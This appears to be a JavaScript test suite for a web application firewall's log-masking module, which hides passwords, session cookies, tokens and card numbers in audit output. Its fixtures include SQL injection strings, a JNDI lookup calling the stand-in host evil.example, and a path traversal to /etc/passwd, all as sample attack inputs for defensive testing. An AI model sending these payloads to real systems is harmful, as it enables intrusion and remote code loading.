/** What the WAF's events and audit log hide, and how they print hostile bytes. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { maskCardNumbers, maskMatched, maskTarget, maskText, pathTokens, printable, secretName, secretTarget, tokenSegment } from './waf-mask.js';
import { SecretValues } from './waf-secret-values.js';

test('secret targets: passwords in several languages, sessions, keys, authorization, wherever they sit', () => {
  const secret = [
    'ARGS:password', 'ARGS:passwd', 'ARGS:pwd', 'ARGS:user[password]', 'ARGS:json.login.passphrase', 'ARGS:kennwort', 'ARGS:senha', 'ARGS:mot_de_passe',
    'REQUEST_COOKIES:PHPSESSID', 'REQUEST_COOKIES:connect.sid', 'REQUEST_COOKIES:JSESSIONID', 'REQUEST_HEADERS:Authorization', 'REQUEST_HEADERS:AUTHORIZATION',
    'REQUEST_HEADERS:X-Api-Key', 'REQUEST_HEADERS:X-Access-Key', 'ARGS:api_key', 'ARGS:csrf_token', 'ARGS:card_number', 'ARGS:cvv', 'ARGS:otp', 'ARGS:client_secret',
    'REQUEST_COOKIES:wordpress_logged_in_abc123', 'REQUEST_COOKIES:remember_web_59ba36', 'REQUEST_COOKIES:jwt', 'REQUEST_COOKIES:refresh', 'REQUEST_HEADERS:DPoP',
    'REQUEST_HEADERS:X-Goog-IAP-JWT-Assertion', 'REQUEST_HEADERS:X-Signature', 'ARGS:sig', 'ARGS:X-Amz-Signature', 'ARGS:X-Amz-Credential',
  ];
  for (const t of secret) assert.ok(secretTarget(t), t);
  const plain = ['ARGS:q', 'ARGS:author', 'ARGS:comment', 'REQUEST_HEADERS:User-Agent', 'REQUEST_COOKIES:theme', 'ARGS:id', 'REQUEST_URI'];
  for (const t of plain) assert.ok(!secretTarget(t), t);
  assert.ok(secretTarget('ARGS:pw', new Set(['pw'])), "a login endpoint's own password field");
  assert.ok(secretTarget('ARGS:json.login.pw', new Set(['pw'])), 'also inside a JSON path');
  assert.equal(maskMatched('ARGS:password', "' or 1=1--"), '[10 bytes hidden]');
});

test('card numbers that pass the Luhn check keep only their last four digits, however they are written', () => {
  for (const written of ['4111111111111111', '4111 1111 1111 1111', '4111-1111-1111-1111', '4111.1111.1111.1111', '4111+1111+1111+1111', '4111%201111%201111%201111', '4111  1111  1111  1111']) {
    assert.equal(maskCardNumbers(`card=${written}&x=1`), 'card=****1111&x=1', written);
  }
  assert.equal(maskCardNumbers('order 1234567890123456'), 'order 1234567890123456', 'a number that fails the check stays');
  assert.equal(maskTarget('/pay?cc=4111111111111111&amount=100'), '/pay?cc=****1111&amount=100');
  assert.equal(maskTarget('/pay?n=4111+1111+1111+1111'), '/pay?n=****1111');
  assert.equal(maskTarget('/login?user=a&password=hunter2&next=/'), '/login?user=a&password=***&next=/');
  assert.equal(maskTarget('/app;jsessionid=ABC123/page?x=1'), '/app;jsessionid=***/page?x=1');
  assert.equal(maskTarget('/x?a=1;password=hunter2;b=2'), '/x?a=1;password=***;b=2');
  assert.equal(maskTarget('/go?to=http://admin:s3cret@intranet.example/'), '/go?to=http://admin:***@intranet.example/');
  assert.equal(maskTarget('/s3?X-Amz-Signature=abcdef&X-Amz-Credential=AKIA/x&key=photo.jpg'), '/s3?X-Amz-Signature=***&X-Amz-Credential=***&key=***');
});

test('printable: UTF-8 reads as text, other bytes and every control character as \\xHH', () => {
  assert.equal(printable(Buffer.from('こんにちは', 'utf8').toString('latin1')), 'こんにちは');
  assert.equal(printable('a\x1b[31mred\x9b2J'), 'a\\x1b[31mred\\x9b2J');
  assert.equal(printable('line\r\nbreak\x00'), 'line\\x0d\\x0abreak\\x00');
  assert.equal(printable('caf\xe9'), 'caf\\xe9', 'not UTF-8: the byte as hex');
  assert.equal(maskMatched('ARGS:q', '<script>\x9b'), '<script>\\x9b');
});

test('every cookie and request header value is hidden but a few harmless ones; a Referer keeps its route', () => {
  for (const t of ['REQUEST_COOKIES:PHPSESSID', 'REQUEST_COOKIES:prefs', 'REQUEST_COOKIES:_ga', 'REQUEST_COOKIES:wordpress_sec_0123abcd', 'REQUEST_COOKIES:XSRF-TOKEN', 'REQUEST_COOKIES:anything']) {
    assert.ok(secretTarget(t), t);
  }
  for (const t of ['REQUEST_COOKIES:lang', 'REQUEST_COOKIES:locale', 'REQUEST_COOKIES:theme', 'REQUEST_COOKIES:tz', 'REQUEST_COOKIES:cookieconsent_status', 'REQUEST_COOKIES:OptanonConsent', 'REQUEST_COOKIES:euconsent-v2', 'REQUEST_COOKIES:wp-settings-1']) {
    assert.ok(!secretTarget(t), t);
  }
  for (const t of ['REQUEST_HEADERS:X-Custom-Auth', 'REQUEST_HEADERS:X-Session', 'REQUEST_HEADERS:Cookie', 'REQUEST_HEADERS:Proxy-Authorization', 'REQUEST_HEADERS:X-Api-Version', 'REQUEST_HEADERS:Sec-WebSocket-Protocol']) {
    assert.ok(secretTarget(t), t);
  }
  for (const t of ['REQUEST_HEADERS:User-Agent', 'REQUEST_HEADERS:referer', 'REQUEST_HEADERS:Accept', 'REQUEST_HEADERS:Accept-Language', 'REQUEST_HEADERS:Content-Type', 'REQUEST_HEADERS:Content-Length', 'REQUEST_HEADERS:Origin', 'REQUEST_HEADERS:Host', 'REQUEST_HEADERS:X-Requested-With', 'REQUEST_HEADERS:X-Forwarded-For', 'REQUEST_HEADERS:Sec-Fetch-Mode']) {
    assert.ok(!secretTarget(t), t);
  }
  // Names are never hidden, only values.
  assert.ok(!secretTarget('REQUEST_COOKIES_NAMES:PHPSESSID'));
  assert.ok(!secretTarget('ARGS_NAMES:password'));
  assert.equal(maskMatched('REQUEST_COOKIES:prefs', "1' OR '1'='1"), '[12 bytes hidden]');
  assert.equal(maskMatched('REQUEST_HEADERS:X-Api-Version', '${jndi:ldap://evil.example/a}'), '[29 bytes hidden]');
  assert.equal(maskMatched('REQUEST_COOKIES:lang', '../../etc/passwd'), '../../etc/passwd', 'a harmless cookie shows its attack');
  assert.equal(maskMatched('REQUEST_HEADERS:Referer', 'https://shop.example/oauth/callback?code=4%2F0Ab&state=x'), 'https://shop.example/oauth/callback?code=***&state=x');
  assert.equal(maskMatched('REQUEST_HEADERS:Referer', 'https://shop.example/reset-password/Zq14x7SECRETvalue'), 'https://shop.example/reset-password/***');
});

test('every part of a JSON or bracket path is a name, not only the last', () => {
  for (const n of ['json.credentials.1', 'user[password][0]', 'json.auth.p', 'json.login.p', 'session[0][id]', 'json.tokens.0.value', 'wsse:Password']) assert.ok(secretName(n), n);
  for (const n of ['json.items.0.name', 'user[email]', 'json.order.qty']) assert.ok(!secretName(n), n);
  assert.equal(maskMatched('ARGS:json.credentials.1', "hunter2' OR '1'='1"), '[18 bytes hidden]');
});

test('secret names: form and JSON p, OAuth code, signatures, JWT, refresh tokens, assertions, DPoP, remember-me and WordPress cookies', () => {
  const secret = [
    'p', 'code', 'sig', 'hmac_sig', 'X-Goog-Signature', 'signature', 'X-Amz-Credential', 'X-Amz-Signature', 'X-Amz-Security-Token', 'credentials', 'jwt', 'id_jwt',
    'refresh', 'refresh_token', 'client_assertion', 'SAMLResponse', 'DPoP', 'wordpress_logged_in_0123abcd', 'wordpress_sec_0123abcd', 'remember_web_59ba36', 'remember_me',
    'recovery_code', 'auth_code', 'mfa-code', 'ticket', 'hmac',
  ];
  for (const n of secret) assert.ok(secretName(n), n);
  for (const n of ['q', 'page', 'zip_code', 'country_code', 'postcode', 'config', 'description', 'title', 'state', 'redirect_uri', 'sv', 'se']) assert.ok(!secretName(n), n);
  assert.equal(maskTarget('/oauth/callback?code=SplxlOBeZQQYbYS6WxSbIA&state=af0ifjsldkj'), '/oauth/callback?code=***&state=af0ifjsldkj');
  assert.equal(maskTarget('/c/blob?sv=2022-11-02&se=2026-12-31&sig=Zx4%2Bk%3D'), '/c/blob?sv=2022-11-02&se=2026-12-31&sig=***');
  assert.equal(maskTarget('/x?user=bob&p=hunter2'), '/x?user=bob&p=***');
});

test('token-looking path segments are masked in the target: reset and verification links, long random ids', () => {
  assert.equal(maskTarget('/reset-password/Zq14x7SECRETvalue?next=/'), '/reset-password/***?next=/');
  assert.equal(maskTarget('/verify/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'), '/verify/***');
  assert.equal(maskTarget('/verify-email/482913'), '/verify-email/***', 'a numeric code after a route that takes one');
  assert.equal(maskTarget('/reset/MQ/bx4kca-1a2b3c4d5e6f7a8b9c0d/'), '/reset/MQ/***/', "Django's reset link: uid, then the token");
  assert.equal(maskTarget('/s/eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk/view'), '/s/***/view', 'a JWT');
  assert.equal(maskTarget('/files/3f2a9c1e-7b4d-4e2a-9f1c-2b3d4e5f6a7b/download'), '/files/***/download');
  assert.equal(maskTarget('https://a.example/invite/Ab3dE6gH9jK?x=1'), 'https://a.example/invite/***?x=1');
  // What is not a token stays, for triage.
  for (const path of [
    '/blog/how-to-install-node-22-on-ubuntu-24-04', '/static/app.3f9a8c1e7b4d4e2a9f1c.js', '/auth/callback', '/auth/google-oauth2', '/api/v2/users/42',
    '/products/12345678901234567890', '/item/1%27%20OR%20%271%27%3D%271', '/reset-password', '/password/reset', '/wp-admin/admin-ajax.php', '/ThisIsAVeryLongCamelCasePageName',
  ]) {
    assert.equal(maskTarget(path), path, path);
  }
  assert.deepEqual(pathTokens('/verify/Zq14x7SECRETvalue/then/abc'), ['Zq14x7SECRETvalue']);
  assert.ok(tokenSegment('Zq14x7SECRETvalue', true) && !tokenSegment('Zq14x7SECRETvalue', false), 'short tokens only after a route that takes one');
});

test('values seen under secret names are hidden wherever they show up again, any case, cut nowhere inside', () => {
  const s = new SecretValues();
  s.add('Zq20x7SECRETvalue');
  s.add('tok%2Bwith%2Fbits');
  assert.equal(maskMatched('XML:/*', "bobZq20x7SECRETvalue' OR '1'='1", undefined, 256, s), "bob[17 bytes hidden]' OR '1'='1");
  assert.equal(maskMatched('ARGS:q', "zq20x7secretvalue' or 1=1", undefined, 256, s), "[17 bytes hidden]' or 1=1", 'after t:lowercase');
  assert.equal(maskMatched('ARGS:q', 'tok+with/bits', undefined, 256, s), '[13 bytes hidden]', 'decoded');
  assert.equal(maskTarget('/x?state=Zq20x7SECRETvalue&y=tok%2Bwith%2Fbits', undefined, 1024, s), '/x?state=***&y=***');
  assert.equal(maskText('Matched Zq20x7SECRETvalue in ARGS:q', undefined, 256, s), 'Matched [17 bytes hidden] in ARGS:q', 'a message quoting the value');
  // A secret across the cut is hidden whole, never half written.
  const long = `${'a'.repeat(500)}Zq20x7SECRETvalue${'b'.repeat(100)}`;
  const out = maskMatched('REQUEST_BODY', long, undefined, 256, s);
  assert.ok(!out.includes('Zq2') && !/[A-Z]/.test(out.replace('…', '')), out);
  // name=value pairs and URL passwords in any matched value.
  assert.equal(maskMatched('REQUEST_BODY', 'user=bob&password=hunter2&x=1'), 'user=bob&password=***&x=1');
  assert.equal(maskMatched('ARGS:url', 'http://bob:hunter2@internal/x'), 'http://bob:***@internal/x');
});
